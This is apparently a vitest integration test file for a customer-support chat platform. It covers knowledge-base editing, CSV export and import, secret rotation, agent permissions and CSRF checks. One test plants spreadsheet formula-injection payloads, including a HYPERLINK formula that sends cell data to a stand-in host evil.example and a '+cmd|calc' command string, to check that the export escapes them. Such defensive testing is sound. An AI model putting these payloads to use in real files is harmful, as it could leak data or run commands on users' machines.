import { randomUUID } from 'node:crypto';
import type { Board, BotDecision, KbEntry, Message, MetricsSummary, Site } from '@cascade/shared';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startCascade, type Harness } from '../support/harness.ts';
import { restClient } from '../support/rest.ts';
import { parseCsvRows } from '@cascade/shared/csv';

let h: Harness;
let admin: ReturnType<typeof restClient>;
let siteId: string;
beforeAll(async () => {
  h = await startCascade();
  admin = restClient(h.url, await h.login('admin@cedar.example'));
  siteId = h.demo.siteId;
});
afterAll(async () => {
  await h.close();
});

const sign = (secret: string) =>
  new SignJWT({ email: 'vip@example.com' })
    .setProtectedHeader({ alg: 'HS256' })
    .setSubject('vip')
    .setExpirationTime('5m')
    .sign(new TextEncoder().encode(secret));

describe('the knowledge base, edited live', () => {
  it('answers with the new text right after an admin edits an entry, without a restart', async () => {
    const { body } = await admin.get<{ entries: KbEntry[] }>(`/api/kb?siteId=${siteId}&q=delivery`);
    const entry = body.entries.find((e) => e.id === 'delivery-times');
    expect(entry).toBeDefined();
    const en = entry!.content.en!;
    const visitor = await h.visitor();
    await visitor.ok('message:send', { clientMsgId: randomUUID(), text: en.question });
    const before = await visitor.next<Message>('message:new', (m) => m.author === 'bot');
    expect(before.text).toBe(en.answer);

    const changed = {
      ...entry!,
      content: { ...entry!.content, en: { ...en, answer: 'Orders now arrive within 2 working days.' } },
    };
    const put = await admin.put(`/api/kb/delivery-times?siteId=${siteId}`, changed);
    expect(put.status).toBe(200);
    await visitor.ok('message:send', { clientMsgId: randomUUID(), text: en.question });
    const after = await visitor.next<Message>('message:new', (m) => m.author === 'bot');
    expect(after.text).toBe('Orders now arrive within 2 working days.');
    visitor.close();
  });

  it('exports and imports CSV, and refuses a broken import without changing anything', async () => {
    const csv = await fetch(`${h.url}/api/kb/export?siteId=${siteId}&format=csv`, {
      headers: { cookie: (await h.login('admin@cedar.example')).cookie },
    });
    const text = await csv.text();
    expect(text.split('\r\n')[0]).toBe('id,skill,language,question,phrasings,answer,related,tags');
    const before = (await admin.get<{ entries: KbEntry[] }>(`/api/kb?siteId=${siteId}`)).body.entries;
    const again = await admin.post<{ imported: number }>('/api/kb/import', {
      siteId,
      format: 'csv',
      data: text,
      replace: true,
    });
    expect(again.body.imported).toBe(before.length);
    const bad = await admin.post<{ error: { code: string } }>('/api/kb/import', {
      siteId,
      format: 'csv',
      data: `${text}"broken`,
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe('invalid_payload');
    const after = (await admin.get<{ entries: KbEntry[] }>(`/api/kb?siteId=${siteId}`)).body.entries;
    expect(after.map((e) => e.id)).toEqual(before.map((e) => e.id));
  });

  it('exports formula-like cells as text, so opening the CSV in a spreadsheet runs nothing', async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click for a refund")';
    const created = await admin.post<{ entry: KbEntry }>(`/api/kb?siteId=${siteId}`, {
      skill: 'general',
      related: [],
      content: { en: { question: formula, phrasings: ['+cmd|calc', '@SUM(1+1)'], answer: '-1+1 then \t=1' } },
    });
    expect(created.status).toBe(200);
    const id = created.body.entry.id;
    try {
      const res = await fetch(`${h.url}/api/kb/export?siteId=${siteId}&format=csv`, {
        headers: { cookie: (await h.login('admin@cedar.example')).cookie },
      });
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const rows = parseCsvRows(await res.text());
      expect(rows.find((r) => r[0] === id)?.slice(3, 6)).toEqual([
        `'${formula}`,
        "'+cmd|calc\n@SUM(1+1)",
        "'-1+1 then \t=1",
      ]);
      expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    } finally {
      await admin.delete(`/api/kb/${id}?siteId=${siteId}`);
    }
  });

  it('shows what the bot would answer and how sure it is', async () => {
    const r = await admin.post<{ decision: BotDecision }>('/api/kb/try', {
      siteId,
      text: 'talk to a real person please',
    });
    expect(r.body.decision).toMatchObject({ kind: 'escalate', reason: 'human_requested' });
  });
});

describe('settings, secrets and agents', () => {
  it('changes settings with validation and rotates the identity secret', async () => {
    const ok = await admin.patch<{ site: Site; snippet: string }>(`/api/sites/settings?siteId=${siteId}`, {
      maxWaitSeconds: 240,
    });
    expect(ok.body.site.maxWaitSeconds).toBe(240);
    expect(ok.body.snippet).toContain(`data-site-key="${h.demo.siteKey}"`);
    const bad = await admin.patch(`/api/sites/settings?siteId=${siteId}`, { theme: { color: 'red' } });
    expect(bad.status).toBe(400);

    const old = (await h.cascade.sites.secrets(siteId))!.identitySecret;
    const rotated = await admin.post<{ secret: string }>('/api/sites/secrets/rotate', { siteId, secret: 'identity' });
    expect(rotated.body.secret).not.toBe(old);
    const fresh = await h.visitor({ identity: await sign(rotated.body.secret) });
    const stale = await h.visitor({ identity: await sign(old) });
    const [freshVisitor, staleVisitor] = await Promise.all([
      h.cascade.visitors.get(
        siteId,
        (await fresh.ok<{ visitorId: string }>('hello', { after: null, page: null })).visitorId,
      ),
      h.cascade.visitors.get(
        siteId,
        (await stale.ok<{ visitorId: string }>('hello', { after: null, page: null })).visitorId,
      ),
    ]);
    expect(freshVisitor?.verified).toBe(true);
    expect(staleVisitor?.verified).toBe(false);
    fresh.close();
    stale.close();
  });

  it('creates an agent whose first password works, and keeps agents out of admin calls', async () => {
    const created = await admin.post<{ password: string; agent: { id: string } }>('/api/agents', {
      siteId,
      email: 'new.agent@cedar.example',
      name: 'New Agent',
      role: 'agent',
      skills: [{ skill: 'general', level: 1 }],
    });
    expect(created.status).toBe(200);
    const agent = restClient(h.url, await h.login('new.agent@cedar.example', created.body.password));
    expect((await agent.get(`/api/kb?siteId=${siteId}`)).status).toBe(403);
    expect((await agent.patch(`/api/sites/settings?siteId=${siteId}`, { maxWaitSeconds: 10 })).status).toBe(403);
    expect((await agent.get('/api/kb?siteId=some-other-site')).status).toBe(404);
    const off = await admin.patch(`/api/agents/${created.body.agent.id}`, { siteId, active: false });
    expect(off.status).toBe(200);
    expect((await agent.get('/api/auth/me')).status).toBe(401);
  });

  it('refuses a state-changing call without the CSRF header', async () => {
    const { cookie } = await h.login('admin@cedar.example');
    const res = await fetch(`${h.url}/api/kb/try`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/json' },
      body: JSON.stringify({ siteId, text: 'hello' }),
    });
    expect(res.status).toBe(403);
  });
});

describe('the supervisor’s board and numbers', () => {
  it('shows waiting lines and agents, live, and counts the day', async () => {
    const supervisor = await h.agent('sara@cedar.example');
    await supervisor.ok('agent:status', { status: 'away' });
    const visitor = await h.visitor();
    await visitor.ok('conversation:escalate', {});
    await visitor.ok('conversation:keep-waiting', {});
    const pushed = await supervisor.next<{ board: Board }>('board:update', (u) =>
      u.board.lines.some((l) => l.waiting > 0),
    );
    expect(pushed.board.lines[0]).toMatchObject({ skill: 'general', level: 1, waiting: 1 });
    const rest = restClient(h.url, { cookie: supervisor.cookie, csrf: supervisor.csrf });
    const board = await rest.get<Board>(`/api/board?siteId=${siteId}`);
    expect(board.body.agents.find((a) => a.name === 'Sara Novak')?.status).toBe('away');
    const summary = await rest.get<MetricsSummary>(`/api/metrics/summary?siteId=${siteId}`);
    expect(summary.body.conversations).toBeGreaterThan(0);
    expect(summary.body.offeredTickets).toBeGreaterThan(0);
    supervisor.close();
    visitor.close();
  });
});
